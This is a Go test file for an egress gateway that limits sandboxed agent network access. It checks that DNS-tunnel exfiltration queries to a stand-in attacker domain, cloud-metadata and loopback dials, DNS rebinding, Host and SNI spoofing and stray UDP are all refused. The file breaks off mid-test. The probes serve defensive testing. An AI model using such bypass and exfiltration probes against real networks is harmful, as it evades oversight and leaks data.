package egress

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/cortexrt/cortex/internal/egress/egresstest"
	"github.com/cortexrt/cortex/internal/errdefs"
	"github.com/cortexrt/cortex/internal/kerneltest"
	"github.com/cortexrt/cortex/internal/runtimes/runtimestest"
	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/google/nftables"
	"github.com/google/nftables/expr"
	"github.com/miekg/dns"
	"github.com/vishvananda/netlink"
)

func TestTransparentGoClient(t *testing.T) {
	e := newEnv(t, []string{"api.allowed.test"})
	c := e.ns.HTTPClient(ResolverAddr, nil, e.ca.Pool())
	for _, tc := range []struct{ name, url, want string }{
		{"http", "http://api.allowed.test:" + e.httpPort + "/", "hello api.allowed.test:" + e.httpPort},
		{"https", "https://api.allowed.test:" + e.httpsPort + "/", "secure api.allowed.test:" + e.httpsPort + " sni=api.allowed.test"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			resp, err := c.Get(tc.url)
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			body, _ := io.ReadAll(resp.Body)
			if string(body) != tc.want {
				t.Errorf("body = %q, want %q", body, tc.want)
			}
		})
	}
	st := e.a.Stats()
	if st.Allowed != 2 || st.BytesOut == 0 || st.BytesIn == 0 || len(st.Denied) != 0 {
		t.Errorf("stats = %+v, want 2 allowed streams with bytes both ways and no denials", st)
	}
	if q := e.upstream.Queries(); len(q) != 0 {
		t.Errorf("upstream resolver was asked %q; pinned names must not be resolved", q)
	}
}

// TestAgentRuntimes runs real Python (urllib) and Node (global fetch)
// clients inside the namespace, over the transparent path and, for Python,
// through the HTTP proxy from Netns.Env.
func TestAgentRuntimes(t *testing.T) {
	requireKernel(t)
	python, node := runtimestest.Python(t).Path, runtimestest.Node(t).Path
	py := `import sys, urllib.request
try:
    print(urllib.request.urlopen(sys.argv[1], timeout=20).read().decode())
except Exception as err:
    print("ERROR", type(err).__name__, err)`
	js := `fetch(process.argv[1]).then(r => r.text()).then(t => console.log(t), e => console.log("ERROR", e.cause ? e.cause.code : e.message))`
	const (
		httpURL  = "http://api.allowed.test:{http}/"
		httpsURL = "https://api.allowed.test:{https}/"
		httpOK   = "hello api.allowed.test:{http}"
		httpsOK  = "secure api.allowed.test:{https} sni=api.allowed.test"
	)
	dnsDenial := Denial{Proto: "dns", Name: "evil.test", Reason: ReasonNameNotAllowed}
	tests := []struct {
		name    string
		program string
		args    []string
		proxy   bool
		want    string
		// denials: glibc asks A and AAAA for a name, and each refused
		// query is one denial; Node may stop after the first.
		denials    []Denial
		minDenials int
	}{
		{name: "python transparent http", program: python, args: []string{"-c", py, httpURL}, want: httpOK},
		{name: "python transparent https", program: python, args: []string{"-c", py, httpsURL}, want: httpsOK},
		{name: "python proxy http", program: python, args: []string{"-c", py, httpURL}, proxy: true, want: httpOK},
		{name: "python proxy https", program: python, args: []string{"-c", py, httpsURL}, proxy: true, want: httpsOK},
		{name: "node fetch http", program: node, args: []string{"-e", js, httpURL}, want: httpOK},
		{name: "node fetch https", program: node, args: []string{"-e", js, httpsURL}, want: httpsOK},
		{
			name: "python transparent unlisted", program: python, args: []string{"-c", py, "http://evil.test/"},
			want:    "ERROR URLError <urlopen error [Errno -2] Name or service not known>",
			denials: []Denial{dnsDenial, dnsDenial},
		},
		{
			name: "python proxy unlisted", program: python, args: []string{"-c", py, "https://evil.test/"}, proxy: true,
			want:    "ERROR URLError <urlopen error Tunnel connection failed: 403 Forbidden>",
			denials: []Denial{{Proto: "proxy", Name: "evil.test", Port: 443, Reason: ReasonNameNotAllowed}},
		},
		{
			name: "node fetch unlisted", program: node, args: []string{"-e", js, "https://evil.test/"},
			want:    "ERROR ENOTFOUND",
			denials: []Denial{dnsDenial, dnsDenial}, minDenials: 1,
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel() // interpreter start-up dominates; each case has its own namespace
			e := newEnv(t, []string{"api.allowed.test"})
			subst := strings.NewReplacer("{http}", e.httpPort, "{https}", e.httpsPort)
			var env []string
			if tc.proxy {
				env = e.a.Env()
			}
			args := slices.Clone(tc.args)
			args[len(args)-1] = subst.Replace(args[len(args)-1])
			out, err := e.run(tc.program, env, args...)
			if err != nil {
				t.Fatalf("%s: %v\n%s", tc.program, err, out)
			}
			if want := subst.Replace(tc.want); out != want {
				t.Errorf("output = %q, want %q", out, want)
			}
			if tc.minDenials > 0 {
				got := e.denials.take()
				if len(got) < tc.minDenials || len(got) > len(tc.denials) {
					t.Errorf("denials = %+v, want %d to %d", got, tc.minDenials, len(tc.denials))
				}
				for _, d := range got {
					if diff := cmp.Diff(tc.denials[0], d, ignoreTime); diff != "" {
						t.Errorf("denial (-want +got):\n%s", diff)
					}
				}
				return
			}
			e.expectDenials(tc.denials...)
		})
	}
}

func TestDNSResolver(t *testing.T) {
	e := newEnv(t, []string{"api.allowed.test", "*.wild.allowed.test", "ice-kernel"})
	for _, network := range []string{"udp", "tcp"} {
		t.Run(network, func(t *testing.T) {
			a := e.query(network, "api.allowed.test", dns.TypeA)
			if a.Rcode != dns.RcodeSuccess || len(a.Answer) != 1 {
				t.Fatalf("A api.allowed.test: %v", a)
			}
			ip, _ := netip.AddrFromSlice(a.Answer[0].(*dns.A).A.To4())
			if !SyntheticPrefix.Contains(ip) {
				t.Errorf("answer %s is not synthetic", ip)
			}
			if aaaa := e.query(network, "api.allowed.test", dns.TypeAAAA); aaaa.Rcode != dns.RcodeSuccess || len(aaaa.Answer) != 0 {
				t.Errorf("AAAA api.allowed.test: want empty NOERROR, got %v", aaaa)
			}
			if w := e.query(network, "deep.x.wild.allowed.test", dns.TypeA); w.Rcode != dns.RcodeSuccess || len(w.Answer) != 1 {
				t.Errorf("wildcard: %v", w)
			}
			if s := e.query(network, "ice-kernel", dns.TypeA); s.Rcode != dns.RcodeSuccess || len(s.Answer) != 1 {
				t.Errorf("single label: %v", s)
			}
			for _, q := range []struct {
				name  string
				qtype uint16
			}{{"secret-data.attacker.example", dns.TypeTXT}, {"secret-data.attacker.example", dns.TypeA}, {"rebind.allowed.test", dns.TypeA}} {
				r := e.query(network, q.name, q.qtype)
				if r.Rcode != dns.RcodeNameError || len(r.Answer) != 0 {
					t.Errorf("%s %s: rcode %s with %d answers, want NXDOMAIN", q.name, dns.TypeToString[q.qtype], dns.RcodeToString[r.Rcode], len(r.Answer))
				}
			}
			e.expectDenials(
				Denial{Proto: "dns", Name: "secret-data.attacker.example", Reason: ReasonNameNotAllowed},
				Denial{Proto: "dns", Name: "secret-data.attacker.example", Reason: ReasonNameNotAllowed},
				Denial{Proto: "dns", Name: "rebind.allowed.test", Reason: ReasonNameNotAllowed},
			)
		})
	}
	// The resolver never forwards: not the refused names (tunnelling gains
	// nothing) and not even the allowed ones (they resolve at dial time).
	if q := e.upstream.Queries(); len(q) != 0 {
		t.Errorf("upstream resolver got %q, want no queries", q)
	}
	if a1, a2 := e.mustLookup("api.allowed.test"), e.mustLookup("api.allowed.test"); a1 != a2 {
		t.Errorf("same name got %s then %s; mappings must be stable", a1, a2)
	}
	if got := e.a.Mappings(); len(got) != 3 {
		t.Errorf("mappings = %v, want the 3 allowed names asked", got)
	}
}

func TestLiteralAddressesRefused(t *testing.T) {
	e := newEnv(t, []string{"api.allowed.test"})
	// A host service on 127.0.0.1 must be unreachable from the namespace by
	// any address.
	hostL, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer hostL.Close()
	var hostAccepts atomic.Int64
	go func() {
		for {
			c, err := hostL.Accept()
			if err != nil {
				return
			}
			hostAccepts.Add(1)
			c.Close()
		}
	}()
	hp := port(hostL.Addr())

	var denials []Denial
	tcpDenial := func(addr string, p string) Denial {
		n := 0
		fmt.Sscan(p, &n)
		return Denial{Proto: "tcp", Addr: addr, Port: n, Reason: ReasonLiteralAddress}
	}
	refused := []string{"93.184.216.34", "169.254.169.254", "10.0.0.1", "198.18.0.99"}
	for _, ifa := range hostAddrs(t) {
		refused = append(refused, ifa)
	}
	for _, addr := range refused {
		t.Run(addr, func(t *testing.T) {
			target := net.JoinHostPort(addr, hp)
			e.expectRefused(target, nil)
			denials = append(denials, tcpDenial(netip.MustParseAddr(addr).Unmap().String(), hp))
		})
	}
	t.Run("the redirect listener itself", func(t *testing.T) {
		p := strconv.Itoa(e.a.transparentPort)
		e.expectRefused("127.0.0.1:"+p, nil)
		denials = append(denials, tcpDenial("127.0.0.1", p))
	})
	t.Run("ipv6 literal", func(t *testing.T) {
		e.expectRefused("[2001:db8::1]:443", nil)
		denials = append(denials, tcpDenial("2001:db8::1", "443"))
	})
	t.Run("ipv4-mapped literal", func(t *testing.T) {
		_, err := e.dialMapped(netip.MustParseAddr("93.184.216.34"), 80)
		if !isRefusal(err) {
			t.Errorf("AF_INET6 socket to ::ffff:93.184.216.34: %v, want reset", err)
		}
		denials = append(denials, tcpDenial("93.184.216.34", "80"))
	})
	t.Run("ipv4-mapped own loopback", func(t *testing.T) {
		_, err := e.dialMapped(netip.MustParseAddr("127.0.0.1"), atoi(hp))
		if !errors.Is(err, syscall.ECONNREFUSED) {
			t.Errorf("AF_INET6 socket to ::ffff:127.0.0.1: %v, want connection refused", err)
		}
	})
	// The namespace's own loopback is its own: nothing listens there, so
	// the kernel refuses; this is not the gateway's doing and not counted.
	for _, addr := range []string{"127.0.0.1:" + hp, "[::1]:" + hp, "0.0.0.0:" + hp} {
		t.Run("own loopback "+addr, func(t *testing.T) {
			_, err := e.dial(addr)
			if !errors.Is(err, syscall.ECONNREFUSED) {
				t.Errorf("dial %s: %v, want connection refused", addr, err)
			}
		})
	}
	e.expectDenials(denials...)
	if n := hostAccepts.Load(); n != 0 {
		t.Errorf("host loopback listener accepted %d connections from the namespace", n)
	}
	if got := e.a.Stats().Denied[ReasonLiteralAddress]; got != uint64(len(denials)) {
		t.Errorf("Denied[literal] = %d, want %d", got, len(denials))
	}
}

// hostAddrs returns the host's own non-loopback IPv4 addresses.
func hostAddrs(t *testing.T) []string {
	ifas, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, a := range ifas {
		if ipn, ok := a.(*net.IPNet); ok && ipn.IP.To4() != nil && !ipn.IP.IsLoopback() {
			out = append(out, ipn.IP.String())
		}
	}
	return out
}

// TestRebinding: names the upstream resolver maps into blocked ranges are
// refused when dialled; a Config.Hosts pin to 127.0.0.1 is the only way to
// reach the host's loopback.
func TestRebinding(t *testing.T) {
	e := newEnv(t, []string{"*.allowed.test"})
	hp := e.httpPort
	for _, tc := range []struct{ name, addr string }{
		{"rebind.allowed.test", "10.0.0.5"},
		{"loop.allowed.test", "127.0.0.1"},
		{"meta.allowed.test", "169.254.169.254"},
		{"v6loop.allowed.test", "::1"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ip := e.mustLookup(tc.name)
			e.expectRefused(net.JoinHostPort(ip.String(), hp), []byte("GET / HTTP/1.1\r\nHost: "+tc.name+"\r\n\r\n"))
			e.expectDenials(Denial{Proto: "tcp", Name: tc.name, Addr: tc.addr, Port: atoi(hp), Reason: ReasonBlockedAddress})
		})
	}
	if n := e.hostHits.Load(); n != 0 {
		t.Fatalf("host server saw %d requests through rebinding names", n)
	}
	t.Run("pinned", func(t *testing.T) {
		resp, err := e.ns.HTTPClient(ResolverAddr, nil, nil).Get("http://api.allowed.test:" + hp + "/")
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != 200 || e.hostHits.Load() != 1 {
			t.Errorf("pinned name: status %d, host hits %d", resp.StatusCode, e.hostHits.Load())
		}
	})
	t.Run("unresolvable", func(t *testing.T) {
		ip := e.mustLookup("nxdomain.allowed.test")
		e.expectRefused(net.JoinHostPort(ip.String(), hp), []byte("GET / HTTP/1.1\r\nHost: nxdomain.allowed.test\r\n\r\n"))
		if n := e.a.Stats().DialErrors; n != 1 {
			t.Errorf("DialErrors = %d, want 1", n)
		}
	})
	for _, q := range e.upstream.Queries() {
		if strings.HasPrefix(q, "api.allowed.test.") {
			t.Errorf("pinned name asked upstream: %s", q)
		}
	}
}

func atoi(s string) int {
	n := 0
	fmt.Sscan(s, &n)
	return n
}

func TestSNIAndHostChecks(t *testing.T) {
	e := newEnv(t, []string{"api.allowed.test", "other.allowed.test", "banner.allowed.test"})
	api := e.mustLookup("api.allowed.test")
	tlsAddr := net.JoinHostPort(api.String(), e.httpsPort)
	httpAddr := net.JoinHostPort(api.String(), e.httpPort)
	handshake := func(addr, sni string) error {
		c, err := e.dial(addr)
		if err != nil {
			return err
		}
		defer c.Close()
		return tls.Client(c, &tls.Config{ServerName: sni, RootCAs: e.ca.Pool()}).Handshake()
	}
	t.Run("sni matches", func(t *testing.T) {
		if err := handshake(tlsAddr, "api.allowed.test"); err != nil {
			t.Fatal(err)
		}
	})
	t.Run("sni of another allowed name", func(t *testing.T) {
		err := handshake(tlsAddr, "other.allowed.test")
		if !isRefusal(err) {
			t.Fatalf("handshake: %v, want reset", err)
		}
		e.expectDenials(Denial{Proto: "tcp", Name: "api.allowed.test", Port: atoi(e.httpsPort), Reason: ReasonSNIMismatch})
	})
	t.Run("host matches", func(t *testing.T) {
		c, err := e.dial(httpAddr)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: api.allowed.test:%s\r\nConnection: close\r\n\r\n", e.httpPort)
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil || resp.StatusCode != 200 {
			t.Fatalf("response %v, %v", resp, err)
		}
	})
	t.Run("host mismatch", func(t *testing.T) {
		e.expectRefused(httpAddr, []byte("GET / HTTP/1.1\r\nHost: other.allowed.test\r\n\r\n"))
		e.expectDenials(Denial{Proto: "tcp", Name: "api.allowed.test", Port: atoi(e.httpPort), Reason: ReasonHostMismatch})
	})
	t.Run("server speaks first", func(t *testing.T) {
		ip := e.mustLookup("banner.allowed.test")
		c, err := e.dial(net.JoinHostPort(ip.String(), e.bannerPort))
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		br := bufio.NewReader(c)
		if line, err := br.ReadString('\n'); err != nil || line != "220 banner\r\n" {
			t.Fatalf("banner %q, %v", line, err)
		}
		io.WriteString(c, "EHLO agent\r\n")
		if line, err := br.ReadString('\n'); err != nil || line != "echo EHLO agent\r\n" {
			t.Fatalf("echo %q, %v", line, err)
		}
		if got := <-e.bannerGot; got != "EHLO agent\r\n" {
			t.Errorf("server read %q", got)
		}
	})
	t.Run("late client hello still checked", func(t *testing.T) {
		// Waiting past the server-first timeout must not switch the checks
		// off: the first bytes are inspected whenever they come.
		ip := e.mustLookup("banner.allowed.test")
		c, err := e.dial(net.JoinHostPort(ip.String(), e.bannerPort))
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		br := bufio.NewReader(c)
		if line, _ := br.ReadString('\n'); line != "220 banner\r\n" {
			t.Fatalf("banner %q", line)
		}
		c.Write(clientHello(t, "evil.example"))
		_, err = br.ReadByte()
		if !isRefusal(err) && !errors.Is(err, io.EOF) {
			t.Errorf("read after mismatched hello: %v, want reset", err)
		}
		if got := <-e.bannerGot; !strings.HasPrefix(got, "<") {
			t.Errorf("banner server received %q; nothing may be forwarded", got)
		}
		e.expectDenials(Denial{Proto: "tcp", Name: "banner.allowed.test", Port: atoi(e.bannerPort), Reason: ReasonSNIMismatch})
	})
	t.Run("half close", func(t *testing.T) {
		c, err := e.dial(httpAddr)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		fmt.Fprintf(c, "GET / HTTP/1.0\r\nHost: api.allowed.test\r\n\r\n")
		c.(*net.TCPConn).CloseWrite()
		body, err := io.ReadAll(c)
		if err != nil || !strings.HasSuffix(string(body), "hello api.allowed.test") {
			t.Errorf("after CloseWrite read %q, %v", body, err)
		}
	})
}

func TestPortNarrowing(t *testing.T) {
	e := newEnv(t, []string{"db.allowed.test:{http}", "ice-kernel"})
	db := e.mustLookup("db.allowed.test")
	c, err := e.dial(net.JoinHostPort(db.String(), e.httpPort))
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: db.allowed.test\r\nConnection: close\r\n\r\n")
	if resp, err := http.ReadResponse(bufio.NewReader(c), nil); err != nil || resp.StatusCode != 200 {
		t.Fatalf("granted port: %v %v", resp, err)
	}
	c.Close()
	e.expectRefused(net.JoinHostPort(db.String(), e.httpsPort), nil)
	e.expectDenials(Denial{Proto: "tcp", Name: "db.allowed.test", Port: atoi(e.httpsPort), Reason: ReasonPortNotAllowed})

	// A bare name allows any port (the seed's ice-kernel:8000).
	ice := e.mustLookup("ice-kernel")
	resp, err := e.ns.HTTPClient(ResolverAddr, nil, nil).Get("http://ice-kernel:" + e.httpPort + "/")
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("ice-kernel (%s): %v %v", ice, resp, err)
	}
	resp.Body.Close()

	pc := proxyConn(t, e)
	defer pc.Close()
	if code := connect(t, pc, "db.allowed.test:"+e.httpsPort); code != 403 {
		t.Errorf("CONNECT to a port not granted: %d, want 403", code)
	}
	e.expectDenials(Denial{Proto: "proxy", Name: "db.allowed.test", Port: atoi(e.httpsPort), Reason: ReasonPortNotAllowed})
}

// proxyConn connects to the HTTP proxy from inside the namespace.
func proxyConn(t *testing.T, e *testEnv) net.Conn {
	t.Helper()
	c, err := e.dial(ProxyAddr)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// connect sends CONNECT target and returns the status code.
func connect(t *testing.T, c net.Conn, target string) int {
	t.Helper()
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
	resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: http.MethodConnect})
	if err != nil {
		t.Fatalf("CONNECT %s: %v", target, err)
	}
	return resp.StatusCode
}

func TestProxy(t *testing.T) {
	e := newEnv(t, []string{"api.allowed.test", "*.rebinds.test", "rebind.allowed.test"})
	proxyURL, _ := url.Parse("http://" + ProxyAddr)
	client := e.ns.HTTPClient(ResolverAddr, proxyURL, e.ca.Pool())
	t.Run("https via CONNECT", func(t *testing.T) {
		resp, err := client.Get("https://api.allowed.test:" + e.httpsPort + "/")
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if want := "secure api.allowed.test:" + e.httpsPort + " sni=api.allowed.test"; string(body) != want {
			t.Errorf("body %q, want %q", body, want)
		}
	})
	t.Run("plain http keep-alive", func(t *testing.T) {
		c := proxyConn(t, e)
		defer c.Close()
		br := bufio.NewReader(c)
		for i := range 2 {
			fmt.Fprintf(c, "GET http://api.allowed.test:%s/%d HTTP/1.1\r\nHost: spoofed.example\r\n\r\n", e.httpPort, i)
			resp, err := http.ReadResponse(br, nil)
			if err != nil {
				t.Fatalf("request %d: %v", i, err)
			}
			body, _ := io.ReadAll(resp.Body)
			if want := "hello api.allowed.test:" + e.httpPort; string(body) != want {
				t.Errorf("request %d: body %q, want %q (the URI names the host)", i, body, want)
			}
		}
	})
	t.Run("upgrade", func(t *testing.T) {
		up := serveTCP(t, func(c net.Conn) {
			br := bufio.NewReader(c)
			req, err := http.ReadRequest(br)
			if err != nil || req.Header.Get("Upgrade") != "echo" {
				return
			}
			io.WriteString(c, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: echo\r\nConnection: Upgrade\r\n\r\n")
			line, _ := br.ReadString('\n')
			io.WriteString(c, "echo "+line)
		})
		c := proxyConn(t, e)
		defer c.Close()
		fmt.Fprintf(c, "GET http://api.allowed.test:%s/ws HTTP/1.1\r\nHost: api.allowed.test\r\nUpgrade: echo\r\nConnection: Upgrade\r\n\r\n", up)
		br := bufio.NewReader(c)
		resp, err := http.ReadResponse(br, nil)
		if err != nil || resp.StatusCode != 101 {
			t.Fatalf("upgrade response %v, %v", resp, err)
		}
		io.WriteString(c, "ping\n")
		if line, err := br.ReadString('\n'); err != nil || line != "echo ping\n" {
			t.Errorf("after upgrade read %q, %v", line, err)
		}
	})
	tests := []struct {
		name   string
		req    string
		code   int
		denial Denial
	}{
		{"connect unlisted", "CONNECT evil.test:443 HTTP/1.1\r\n\r\n", 403, Denial{Proto: "proxy", Name: "evil.test", Port: 443, Reason: ReasonNameNotAllowed}},
		{"connect literal", "CONNECT 127.0.0.1:" + e.httpPort + " HTTP/1.1\r\n\r\n", 403, Denial{Proto: "proxy", Addr: "127.0.0.1", Port: atoi(e.httpPort), Reason: ReasonLiteralAddress}},
		{"connect metadata", "CONNECT 169.254.169.254:80 HTTP/1.1\r\n\r\n", 403, Denial{Proto: "proxy", Addr: "169.254.169.254", Port: 80, Reason: ReasonLiteralAddress}},
		{"connect rebinding", "CONNECT rebind.allowed.test:80 HTTP/1.1\r\n\r\n", 403, Denial{Proto: "proxy", Name: "rebind.allowed.test", Addr: "10.0.0.5", Port: 80, Reason: ReasonBlockedAddress}},
		{"get unlisted", "GET http://evil.test/x HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n", 403, Denial{Proto: "proxy", Name: "evil.test", Port: 80, Reason: ReasonNameNotAllowed}},
		{"get literal", "GET http://93.184.216.34/ HTTP/1.1\r\n\r\n", 403, Denial{Proto: "proxy", Addr: "93.184.216.34", Port: 80, Reason: ReasonLiteralAddress}},
		{"origin form", "GET / HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n", 400, Denial{Proto: "proxy", Name: "api.allowed.test", Reason: ReasonMalformed}},
		{"garbage", "\x00\x01\x02 nonsense\r\n\r\n", 400, Denial{Proto: "proxy", Reason: ReasonMalformed}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			c := proxyConn(t, e)
			defer c.Close()
			io.WriteString(c, tc.req)
			resp, err := http.ReadResponse(bufio.NewReader(c), nil)
			if err != nil {
				t.Fatal(err)
			}
			if resp.StatusCode != tc.code {
				t.Errorf("status %d, want %d", resp.StatusCode, tc.code)
			}
			e.expectDenials(tc.denial)
		})
	}
	t.Run("connect then other sni", func(t *testing.T) {
		c := proxyConn(t, e)
		defer c.Close()
		if code := connect(t, c, "api.allowed.test:"+e.httpsPort); code != 200 {
			t.Fatalf("CONNECT: %d", code)
		}
		err := tls.Client(c, &tls.Config{ServerName: "other.allowed.test", RootCAs: e.ca.Pool()}).Handshake()
		if !isRefusal(err) {
			t.Errorf("handshake: %v, want reset", err)
		}
		e.expectDenials(Denial{Proto: "proxy", Name: "api.allowed.test", Port: atoi(e.httpsPort), Reason: ReasonSNIMismatch})
	})
	t.Run("connect then plaintext other host", func(t *testing.T) {
		c := proxyConn(t, e)
		defer c.Close()
		if code := connect(t, c, "api.allowed.test:"+e.httpPort); code != 200 {
			t.Fatalf("CONNECT: %d", code)
		}
		io.WriteString(c, "GET / HTTP/1.1\r\nHost: other.allowed.test\r\n\r\n")
		if _, err := c.Read(make([]byte, 1)); !isRefusal(err) {
			t.Errorf("read: %v, want reset", err)
		}
		e.expectDenials(Denial{Proto: "proxy", Name: "api.allowed.test", Port: atoi(e.httpPort), Reason: ReasonHostMismatch})
	})
	if q := e.upstream.Queries(); slices.ContainsFunc(q, func(s string) bool { return strings.HasPrefix(s, "evil.test") }) {
		t.Errorf("unlisted name reached the upstream resolver: %q", q)
	}
}

func TestUDPRefused(t *testing.T) {
	e := newEnv(t, []string{"api.allowed.test"})
	api := e.mustLookup("api.allowed.test")
	send := func(network, addr string) error {
		pc, err := e.ns.ListenPacket(network, "")
		if err != nil {
			t.Fatal(err)
		}
		defer pc.Close()
		ua, err := net.ResolveUDPAddr(network, addr)
		if err != nil {
			t.Fatal(err)
		}
		_, err = pc.WriteTo([]byte("x"), ua)
		return err
	}
	for _, tc := range []struct {
		name, network, addr string
		denial              Denial
	}{
		{"public", "udp4", "93.184.216.34:9999", Denial{Proto: "udp", Addr: "93.184.216.34", Port: 9999, Reason: ReasonProtocol}},
		{"dns elsewhere", "udp4", "8.8.8.8:53", Denial{Proto: "udp", Addr: "8.8.8.8", Port: 53, Reason: ReasonProtocol}},
		{"quic to allowed name", "udp4", net.JoinHostPort(api.String(), "443"), Denial{Proto: "udp", Name: "api.allowed.test", Addr: api.String(), Port: 443, Reason: ReasonProtocol}},
		{"ipv6", "udp6", "[2001:db8::1]:443", Denial{Proto: "udp", Addr: "2001:db8::1", Port: 443, Reason: ReasonProtocol}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := send(tc.network, tc.addr)
			if !errors.Is(err, syscall.EPERM) && !errors.Is(err, syscall.ECONNREFUSED) {
				t.Errorf("send: %v, want EPERM or ECONNREFUSED at once", err)
			}
			e.expectDenials(tc.denial)
		})
	}
	if r := e.query("udp", "api.allowed.test", dns.TypeA); r.Rcode != dns.RcodeSuccess {
		t.Errorf("UDP DNS to the resolver: %v", r)
	}
}

func TestEmptyPolicyNoEgress(t *testing.T) {
	e := newEnv(t, nil)
	python := runtimestest.Python(t).Path
	if _, err := e.lookup("api.allowed.test"); err == nil {
		t.Error("an empty policy resolved api.allowed.test")
	}
	e.expectRefused("93.184.216.34:443", nil)
	c := proxyConn(t, e)
	defer c.Close()
	if code := connect(t, c, "api.allowed.test:"+e.httpsPort); code != 403 {
		t.Errorf("CONNECT: %d, want 403", code)
	}
	out, err := e.run(python, nil, "-c", `import urllib.request
try:
    urllib.request.urlopen("http://api.allowed.test:`+e.httpPort+`/", timeout=20)
except Exception as err:
    print(type(err).__name__)`)
	if err != nil || out != "URLError" {
		t.Errorf("python: %q %v", out, err)
	}
	e.expectDenials(
		Denial{Proto: "dns", Name: "api.allowed.test", Reason: ReasonNameNotAllowed},
		Denial{Proto: "tcp", Addr: "93.184.216.34", Port: 443, Reason: ReasonLiteralAddress},
		Denial{Proto: "proxy", Name: "api.allowed.test", Port: atoi(e.httpsPort), Reason: ReasonNameNotAllowed},
		Denial{Proto: "dns", Name: "api.allowed.test", Reason: ReasonNameNotAllowed},
		Denial{Proto: "dns", Name: "api.allowed.test", Reason: ReasonNameNotAllowed},
	)
	if n := e.hostHits.Load(); n != 0 {
		t.Errorf("host servers saw %d requests", n)
	}
}

func TestInternalNames(t *testing.T) {
	const llm = "llm.cortex.internal"
	// The in-daemon service: a host listener the dial function reaches.
	svc, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer svc.Close()
	go http.Serve(svc, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "llm gateway %s", r.Host)
	}))
	var dials atomic.Int64
	dial := func(ctx context.Context) (net.Conn, error) {
		dials.Add(1)
		var d net.Dialer
		return d.DialContext(ctx, "tcp", svc.Addr().String())
	}
	t.Run("enabled", func(t *testing.T) {
		e := newEnv(t, nil, withRegistered(llm, dial), withInternal(llm))
		resp, err := e.ns.HTTPClient(ResolverAddr, nil, nil).Get("http://" + llm + "/v1/models")
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if string(body) != "llm gateway "+llm {
			t.Errorf("transparent: body %q", body)
		}
		proxyURL, _ := url.Parse("http://" + ProxyAddr)
		resp, err = e.ns.HTTPClient(ResolverAddr, proxyURL, nil).Get("http://" + llm + ":8080/v1/models")
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != 200 || dials.Load() != 2 {
			t.Errorf("proxy: status %d, dials %d (want 2)", resp.StatusCode, dials.Load())
		}
		if q := e.upstream.Queries(); len(q) != 0 {
			t.Errorf("internal name resolved upstream: %q", q)
		}
	})
	t.Run("not enabled", func(t *testing.T) {
		before := dials.Load()
		e := newEnv(t, []string{"*.allowed.test"}, withRegistered(llm, dial))
		if _, err := e.lookup(llm); err == nil {
			t.Error("internal name resolved for an agent it is not enabled for")
		}
		c := proxyConn(t, e)
		defer c.Close()
		if code := connect(t, c, llm+":80"); code != 403 {
			t.Errorf("CONNECT: %d, want 403", code)
		}
		e.expectDenials(
			Denial{Proto: "dns", Name: llm, Reason: ReasonNameNotAllowed},
			Denial{Proto: "proxy", Name: llm, Port: 80, Reason: ReasonNameNotAllowed},
		)
		if dials.Load() != before {
			t.Error("the internal dialer was used for an agent without the name")
		}
	})
	t.Run("unregistered", func(t *testing.T) {
		e := newEnv(t, nil, func(c *envConfig) { c.noServe = true })
		_, err := e.g.ServeNetns(context.Background(), e.ns.FD(), NetnsOptions{Internal: []string{"nope.cortex.internal"}})
		if !errdefs.IsInvalidArgument(err) {
			t.Errorf("ServeNetns with an unregistered internal name: %v, want invalid argument", err)
		}
	})
}

// TestCloseReleasesEverything: Close cuts live streams, ends every
// goroutine of the package and leaves nothing holding the namespace, which
// the kernel then destroys.
func TestCloseReleasesEverything(t *testing.T) {
	requireKernel(t)
	waitNoEgressGoroutines(t)
	e := newEnv(t, []string{"api.allowed.test", "banner.allowed.test"})

	// A veth pair with one end in the namespace: the host end disappears
	// when the namespace is destroyed.
	hostEnd := fmt.Sprintf("egv%d", time.Now().UnixNano()%1e6)
	veth := &netlink.Veth{LinkAttrs: netlink.LinkAttrs{Name: hostEnd}, PeerName: hostEnd + "p", PeerNamespace: netlink.NsFd(e.ns.FD())}
	if err := netlink.LinkAdd(veth); err != nil {
		t.Fatalf("add veth: %v", err)
	}
	t.Cleanup(func() {
		if l, err := netlink.LinkByName(hostEnd); err == nil {
			netlink.LinkDel(l)
		}
	})

	// Traffic on every path, and one stream left open.
	e.mustLookup("api.allowed.test")
	e.query("tcp", "evil.test", dns.TypeA)
